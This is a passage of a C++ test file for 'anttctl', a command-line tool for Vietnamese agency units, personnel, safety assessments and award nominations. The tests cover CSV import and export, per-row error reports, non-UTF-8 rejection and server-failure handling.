    positions.push_back(fields);
  }
  EXPECT_EQ(positions,
            (std::vector<std::vector<std::string>>{
                {"leader", title, unit_id, "2010-01-01", "", "false"}}))
      << persons;

  // An export imported back keeps each model whole.
  const std::string exported = Path("export.csv");
  ASSERT_EQ(Run({"units", "export", "--file", exported}).exit_code, 0);
  const Outcome again = Run({"units", "import", exported});
  EXPECT_EQ(again.exit_code, 0) << again;
  EXPECT_TRUE(absl::StrContains(again.out, "created 0, updated 1, rejected 0"))
      << again;
  const Outcome got = Run({"-o", "json", "units", "get", unit_id});
  ASSERT_EQ(got.exit_code, 0) << got;
  EXPECT_EQ(nlohmann::json::parse(got.out).at("models"),
            nlohmann::json::array({"Tổ A; kiêm B", "Camera | an ninh\\"}))
      << got << ReadFile(exported);
}

TEST_F(AnttctlTest, PersonsImportTwiceCreatesEachPersonOnce) {
  const std::string unit = CreateAgency("Sở Tư pháp", "A1");
  const std::string csv = Path("persons.csv");
  WriteFile(csv,
            absl::StrCat("full_name,gender,birth_year,unit_id,role,title,since,"
                         "until,hardship,police_medal\n"
                         "Nguyễn Văn An,male,1970,",
                         unit,
                         ",leader,,2010-01-01,,false,\n"
                         "Trần Thị Bình,female,1980,",
                         unit,
                         ",protection-team,Tổ trưởng,2015-03-01,,true,false\n"
                         "Lê Văn Cường,robot,1985,",
                         unit, ",staff,,2016-01-01,,,\n"));
  const Outcome first = Run({"-o", "csv", "persons", "import", csv});
  EXPECT_EQ(first.exit_code, 4) << first;  // row 3: bad gender
  const std::vector<std::string> lines = Lines(first.out);
  ASSERT_EQ(lines.size(), 3u) << first;
  EXPECT_EQ(lines[0], "row,id,full_name");
  EXPECT_TRUE(absl::StartsWith(lines[1], "1,P")) << first;
  EXPECT_TRUE(absl::EndsWith(lines[1], ",Nguyễn Văn An")) << first;
  EXPECT_TRUE(absl::StartsWith(lines[2], "2,P")) << first;
  EXPECT_TRUE(absl::StartsWith(ReadFile(csv + ".errors.csv"),
                               "row,field,message\n3,gender,"))
      << ReadFile(csv + ".errors.csv");

  const Outcome second =
      Run({"-o", "csv", "persons", "import", csv, "--parallel", "1"});
  EXPECT_EQ(second.exit_code, 4) << second;
  EXPECT_EQ(second.out, first.out);  // the same two persons, found again

  const Outcome list = Run({"-o", "json", "persons", "list"});
  ASSERT_EQ(list.exit_code, 0) << list;
  EXPECT_EQ(nlohmann::json::parse(list.out).at("persons").size(), 2u) << list;

  const Outcome exported = Run({"persons", "export", "--unit", unit});
  ASSERT_EQ(exported.exit_code, 0) << exported;
  EXPECT_TRUE(absl::StrContains(
      exported.out, absl::StrCat(",Trần Thị Bình,female,1980,", unit,
                                 ",active,false,protection-team|Tổ trưởng|",
                                 unit, "|2015-03-01||true\n")))
      << exported;
}

TEST_F(AnttctlTest, PersonsGetAndUpdate) {
  const std::string unit = CreateAgency("Sở Tư pháp", "A1");
  const Outcome created =
      Run({"-o", "json", "persons", "create", "--name", "Nguyễn Văn An",
           "--gender", "male", "--birth-year", "1970", "--unit", unit,
           "--since", "2010-01-01"});
  ASSERT_EQ(created.exit_code, 0) << created;
  const std::string id = nlohmann::json::parse(created.out).value("id", "");

  const Outcome updated = Run({"-o", "json", "persons", "update", id,
                               "--birth-year", "1971", "--police-medal"});
  ASSERT_EQ(updated.exit_code, 0) << updated;
  const Outcome got = Run({"-o", "json", "persons", "get", id});
  ASSERT_EQ(got.exit_code, 0) << got;
  const nlohmann::json person = nlohmann::json::parse(got.out);
  EXPECT_EQ(person.value("birth_year", 0), 1971);
  EXPECT_EQ(person.value("holds_police_service_medal", false), true);
  EXPECT_EQ(person.value("full_name", ""), "Nguyễn Văn An");

  EXPECT_EQ(Run({"persons", "get", "P0000000099"}).exit_code, 3);
}

TEST_F(AnttctlTest, NominateFromFileReportsRowsAndPrintsEachNomination) {
  ASSERT_NO_FATAL_FAILURE(StartAwards());
  const std::string unit = CreateAgency("Sở Tư pháp", "A1");
  const int next_year =
      absl::ToCivilYear(absl::Now(), absl::UTCTimeZone()).year() + 1;
  const Outcome campaign =
      Run({"-o", "json", "awards", "campaign", "create", "--title",
           "Khen thưởng 2020–2024", "--from", "2020", "--to", "2024",
           "--deadline", absl::StrCat(next_year, "-12-31")});
  ASSERT_EQ(campaign.exit_code, 0) << campaign;
  const std::string campaign_id =
      nlohmann::json::parse(campaign.out).value("id", "");

  // Row 1: good; row 2: no recipient (refused by anttctl); row 3: an award
  // type the catalogue lacks (refused by the server); row 4: good.
  const std::string csv = Path("nominations.csv");
  WriteFile(csv,
            absl::StrCat("award_type,unit_id,person_id,achievements\n",
                         "BK_UBND_TINH,", unit, ",,\"Năm năm liền, tốt\"\n",
                         "BK_UBND_TINH,,,Không có ai\n", "NO_SUCH_AWARD,", unit,
                         ",,x\n", "GK_CAT,", unit, ",,Tốt\n"));
  const std::string report = Path("nominations.errors.csv");
  const Outcome o = Run({"-o", "csv", "awards", "nominate", "--campaign",
                         campaign_id, "--file", csv, "--errors", report});
  EXPECT_EQ(o.exit_code, 4) << o;
  const std::vector<std::string> lines = Lines(o.out);
  ASSERT_EQ(lines.size(), 3u) << o;
  EXPECT_EQ(lines[0], "row,id,award_type,recipient,eligible");
  EXPECT_TRUE(absl::StartsWith(lines[1], "1,")) << o;
  EXPECT_TRUE(
      absl::StrContains(lines[1], absl::StrCat(",BK_UBND_TINH,", unit, ",")))
      << o;
  EXPECT_TRUE(absl::StartsWith(lines[2], "4,")) << o;
  EXPECT_TRUE(absl::StrContains(lines[2], ",GK_CAT,")) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "2 nominated")) << o;
  const std::vector<std::string> errors = Lines(ReadFile(report));
  ASSERT_EQ(errors.size(), 3u) << ReadFile(report);
  EXPECT_TRUE(absl::StartsWith(errors[1], "2,unit_id,")) << errors[1];
  EXPECT_TRUE(absl::StartsWith(errors[2], "3,,")) << errors[2];
}

TEST_F(AnttctlTest,
       SubmitFileReportsBadRowsByColumnAndRunsTwiceSubmittingOnce) {
  ASSERT_NO_FATAL_FAILURE(StartAwards());
  const std::string a = CreateAgency("Sở Tư pháp", "A1");
  const std::string b = CreateAgency("Sở Y tế", "A2");
  // Row 1 and 2: good; row 3: a year anttctl cannot read; row 4: an event
  // type the criteria set lacks (refused by the server).
  const std::string csv = Path("assessments.csv");
  WriteFile(csv, absl::StrCat("unit_id,year,points_total,events\n", a,
                              ",2019,95,\n", b, ",2019,80,\n", a, ",20x9,90,\n",
                              b, ",2018,80,9.9.9@2018-03-01=x\n"));
  const std::string report = Path("assessments.errors.csv");
  for (int run = 0; run < 2; ++run) {
    const Outcome o =
        Run({"assess", "submit", "--file", csv, "--errors", report});
    EXPECT_EQ(o.exit_code, 4) << o;
    EXPECT_TRUE(absl::StrContains(o.out, "2 submitted")) << o;
    EXPECT_TRUE(absl::StrContains(o.out, "2 rows rejected")) << o;
    const std::vector<std::string> errors = Lines(ReadFile(report));
    ASSERT_EQ(errors.size(), 3u) << ReadFile(report);
    EXPECT_TRUE(absl::StartsWith(errors[1], "3,year,")) << errors[1];
    EXPECT_TRUE(absl::StartsWith(errors[2], "4,")) << errors[2];
    EXPECT_TRUE(absl::StrContains(errors[2], "9.9.9")) << errors[2];
  }
  const Outcome list = Run({"-o", "csv", "assess", "list", "--all"});
  EXPECT_EQ(Lines(list.out).size(), 3u)
      << "the second run submitted nothing " << list;
}

TEST_F(AnttctlTest, SubmitAndNominateFilesRefuseARowThatIsNotUtf8) {
  ASSERT_NO_FATAL_FAILURE(StartAwards());
  const std::string a = CreateAgency("Sở Tư pháp", "A1");
  const std::string b = CreateAgency("Sở Y tế", "A2");
  // Row 2's event description is "Cháy kho" in Windows-1258 (á is 0xE1).
  const std::string assessments = Path("assessments.csv");
  WriteFile(assessments,
            absl::StrCat("unit_id,year,points_total,events\n", a, ",2019,95,\n",
                         b, ",2019,80,7.3.4@2019-03-01=Ch\xE1y kho\n", b,
                         ",2018,90,\n"));
  const Outcome submit = Run({"assess", "submit", "--file", assessments});
  EXPECT_EQ(submit.exit_code, 4) << submit;
  EXPECT_TRUE(absl::StrContains(submit.out, "2 submitted")) << submit;
  EXPECT_TRUE(absl::StrContains(submit.out, "1 rows rejected")) << submit;
  const std::vector<std::string> submit_errors =
      Lines(ReadFile(assessments + ".errors.csv"));
  ASSERT_EQ(submit_errors.size(), 2u) << ReadFile(assessments + ".errors.csv");
  EXPECT_TRUE(absl::StartsWith(submit_errors[1], "2,events,"))
      << submit_errors[1];
  EXPECT_TRUE(absl::StrContains(submit_errors[1], "save the file as UTF-8"))
      << submit_errors[1];

  const int next_year =
      absl::ToCivilYear(absl::Now(), absl::UTCTimeZone()).year() + 1;
  const Outcome campaign =
      Run({"-o", "json", "awards", "campaign", "create", "--title",
           "Khen thưởng 2020–2024", "--from", "2020", "--to", "2024",
           "--deadline", absl::StrCat(next_year, "-12-31")});
  ASSERT_EQ(campaign.exit_code, 0) << campaign;
  const std::string campaign_id =
      nlohmann::json::parse(campaign.out).value("id", "");
  // Row 2's achievements were saved in Latin-1 ("Café" with é as 0xE9).
  const std::string nominations = Path("nominations.csv");
  WriteFile(nominations,
            absl::StrCat("award_type,unit_id,achievements\nBK_UBND_TINH,", a,
                         ",Tốt\nBK_UBND_TINH,", b,
                         ",Caf\xE9"
                         " an toàn\nGK_CAT,",
                         b, ",Tốt\n"));
  const Outcome nominate = Run({"-o", "csv", "awards", "nominate", "--campaign",
                                campaign_id, "--file", nominations});
  EXPECT_EQ(nominate.exit_code, 4) << nominate;
  const std::vector<std::string> lines = Lines(nominate.out);
  ASSERT_EQ(lines.size(), 3u) << nominate;
  EXPECT_TRUE(absl::StartsWith(lines[1], "1,")) << nominate;
  EXPECT_TRUE(absl::StartsWith(lines[2], "3,")) << nominate;
  EXPECT_TRUE(absl::StrContains(nominate.err, "2 nominated")) << nominate;
  const std::vector<std::string> errors =
      Lines(ReadFile(nominations + ".errors.csv"));
  ASSERT_EQ(errors.size(), 2u) << ReadFile(nominations + ".errors.csv");
  EXPECT_TRUE(absl::StartsWith(errors[1], "2,achievements,")) << errors[1];
  EXPECT_TRUE(absl::StrContains(errors[1], "0xE9")) << errors[1];
}

TEST_F(AnttctlTest, NominateFailsWhenABatchIsAnsweredShort) {
  ShortAnsweringAwards awards;
  std::unique_ptr<grpc::Server> server;
  awards_address_ = ServeInProcess(&awards, &server);
  const std::string csv = Path("nominations.csv");
  WriteFile(csv,
            "award_type,unit_id,achievements\n"
            "GK_CAT,U0000000001,Tốt\n"
            "GK_CAT,U0000000002,Tốt\n"
            "GK_CAT,U0000000003,Tốt\n");
  const Outcome o = Run({"-o", "csv", "awards", "nominate", "--campaign",
                         "C0000000001", "--file", csv});
  EXPECT_EQ(o.exit_code, 1) << o;
  EXPECT_EQ(Lines(o.out).size(), 2u) << o;  // the header and row 1
  EXPECT_TRUE(absl::StrContains(o.err, "1 nominated")) << o;
  EXPECT_TRUE(
      absl::StrContains(o.err, "awards nominate: the counts do not add up"))
      << o;
  EXPECT_TRUE(absl::StrContains(o.err, "2 rows have no outcome")) << o;
}

TEST_F(AnttctlTest, ApproveEligibleStoppedByAServerErrorCountsOnlyWhatItDid) {
  FailingAwards awards;
  std::unique_ptr<grpc::Server> server;
  awards_address_ = ServeInProcess(&awards, &server);
  const Outcome o =
      Run({"awards", "approve", "--campaign", "C0000000001", "--eligible"});
  EXPECT_EQ(o.exit_code, 1) << o;
  // Each of the 4 threads stops after its first failure: 16 or more untried.
  EXPECT_TRUE(absl::StartsWith(o.out, "0 eligible nominations approved, "))
      << o;
  EXPECT_TRUE(absl::StrContains(o.out, " not tried\n")) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "stopped at an error")) << o;
}

TEST_F(AnttctlTest, ReviewAndRecognizeAWholeYearDecideEachByItsResult) {
  ASSERT_NO_FATAL_FAILURE(StartAwards());
  const std::string safe = CreateAgency("Sở Tư pháp", "A1");
  const std::string fire = CreateAgency("Sở Y tế", "A2");
  ASSERT_NO_FATAL_FAILURE(AssessAndDecide2019(safe, fire));
  const Outcome recognized = Run({"-o", "csv", "assess", "list", "--year",
                                  "2019", "--stage", "recognized"});
  EXPECT_TRUE(absl::StrContains(recognized.out, safe)) << recognized;
  EXPECT_FALSE(absl::StrContains(recognized.out, fire)) << recognized;
  const Outcome refused = Run({"-o", "csv", "assess", "list", "--year", "2019",
                               "--stage", "not-recognized"});
  EXPECT_TRUE(absl::StrContains(refused.out, fire)) << refused;
  // Nothing is left to review.
  const Outcome again =
      Run({"assess", "review", "--approve", "--year", "2019", "--area", "44"});
  EXPECT_EQ(again.exit_code, 0) << again;
  EXPECT_TRUE(absl::StrContains(again.out, "0 of 0")) << again;
}

TEST_F(AnttctlTest, SubmitFileStopsAtAServerErrorAndExitsOne) {
  ASSERT_NO_FATAL_FAILURE(StartAwards());
  const std::string a = CreateAgency("Sở Tư pháp", "A1");
  const std::string csv = Path("assessments.csv");
  WriteFile(csv, absl::StrCat("unit_id,year,points_total\n", a, ",2018,95\n", a,
                              ",2019,95\n"));
  EXPECT_EQ(scoring_->Stop(SIGTERM), 0);
  const Outcome o = Run({"assess", "submit", "--file", csv});
  EXPECT_EQ(o.exit_code, 1) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "UNAVAILABLE")) << o;
  EXPECT_TRUE(absl::StrContains(o.err, "stopped")) << o;
}

TEST_F(AnttctlTest, ApproveEligibleAndRejectIneligibleWithTheFailedRule) {
  ASSERT_NO_FATAL_FAILURE(StartAwards());
  const std::string safe = CreateAgency("Sở Tư pháp", "A1");
  const std::string fire = CreateAgency("Sở Y tế", "A2");
  ASSERT_NO_FATAL_FAILURE(AssessAndDecide2019(safe, fire));
  const int next_year =
      absl::ToCivilYear(absl::Now(), absl::UTCTimeZone()).year() + 1;
  const Outcome campaign =
      Run({"-o", "json", "awards", "campaign", "create", "--title",
           "Khen thưởng năm 2019", "--from", "2019", "--to", "2019",
           "--deadline", absl::StrCat(next_year, "-12-31")});
  ASSERT_EQ(campaign.exit_code, 0) << campaign;
  const std::string id = nlohmann::json::parse(campaign.out).value("id", "");
  const std::string csv = Path("nominations.csv");
  WriteFile(csv, absl::StrCat("award_type,unit_id\nGK_CAT,", safe, "\nGK_CAT,",
                              fire, "\n"));
  ASSERT_EQ(
      Run({"awards", "nominate", "--campaign", id, "--file", csv}).exit_code,
      0);

  const Outcome approve =
      Run({"awards", "approve", "--campaign", id, "--eligible"});
  EXPECT_EQ(approve.exit_code, 0) << approve;
  EXPECT_TRUE(absl::StrContains(approve.out, "1 eligible nominations approved"))
      << approve;
  const Outcome reject =
      Run({"awards", "reject", "--campaign", id, "--ineligible"});
  EXPECT_EQ(reject.exit_code, 0) << reject;
  const Outcome rejected = Run({"-o", "json", "awards", "list", "--campaign",
                                id, "--stage", "rejected"});
  const auto nominations = nlohmann::json::parse(rejected.out)
                               .value("nominations", nlohmann::json::array());
  ASSERT_EQ(nominations.size(), 1u) << rejected;
  EXPECT_EQ(nominations[0].value("unit_id", ""), fire);
  EXPECT_TRUE(absl::StrContains(nominations[0].value("stage_reason", ""),
                                "GK_CAT.recognized_last_years"))
      << rejected;
  // The id and --eligible exclude each other: a usage error.
  EXPECT_EQ(
      Run({"awards", "approve", "N0000000001", "--campaign", id, "--eligible"})
          .exit_code,
      2);
}

}  // namespace
}  // namespace antt::cli
